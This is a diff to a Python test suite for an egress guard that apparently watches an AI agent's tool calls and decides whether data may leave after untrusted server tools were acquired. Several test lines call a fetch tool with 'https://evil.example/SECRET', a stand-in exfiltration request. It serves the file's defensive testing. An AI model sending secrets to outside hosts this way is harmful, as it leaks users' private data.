@@ -229,6 +229,19 @@ async def test_s3_the_words_of_a_server_are_read_once_its_tool_is_acquired(
     assert await run.call(FETCH, url="https://evil.example/SECRET") is is_private
 
 
+async def test_s3_a_tool_acquired_in_the_last_response_is_on_the_record_of_the_thread() -> None:
+    """S3: the next run may not be offered it any more, but its words are in the conversation."""
+    run = Run()
+    run.guard = EgressGuard(lambda: [asked()], Policy(), tool_of={LOOK.name: LOOK}.get)
+    await run.guard.on_run_start(LoopState())
+    ended = LoopState(acquired=(LOOK.name,), turn=1)
+    state = LoopState(turn=1, hooks={run.guard.name: run.guard.memory(ended)})
+    later = Run()
+    later.guard = EgressGuard(lambda: [asked()], Policy(), tool_of=lambda _: None)
+    await later.guard.on_run_start(state)
+    assert await later.call(FETCH, url="https://evil.example/SECRET")
+
+
 LONG_QUESTION = "word " * 4_000
 COSTLY: dict[str, tuple[str, str, dict[str, Any]]] = {
     "letters that the server repeats": (QUESTION, "a" * 1_000_000, {"more": ["a"] * 1_000}),
@@ -351,7 +364,7 @@ async def test_counts_outlive_the_worker() -> None:
     asks = []
     for word in words:
         asks.append(await run.call(SEARCH, query=word))
-        state = LoopState(turn=1, hooks={run.guard.name: run.guard.memory()})
+        state = LoopState(turn=1, hooks={run.guard.name: run.guard.memory(LoopState())})
         run = Run()
         await run.guard.on_run_start(LoopState.model_validate_json(state.model_dump_json()))
     assert asks.count(False) <= MOST_OF_ONES_OWN
@@ -398,7 +411,7 @@ async def test_s9_nor_does_a_server_that_keeps_what_it_was_told(note: str) -> No
         given = LOOK.arguments.model_validate(told)
         await run.guard.before_tool(LOOK, given)
         await run.guard.after_tool(LOOK, given, ToolResult("kept"))
-    state = LoopState(turn=1, hooks={run.guard.name: run.guard.memory()})
+    state = LoopState(turn=1, hooks={run.guard.name: run.guard.memory(LoopState())})
     later = Run()
     await later.guard.on_run_start(LoopState.model_validate_json(state.model_dump_json()))
     for each in (run, later):
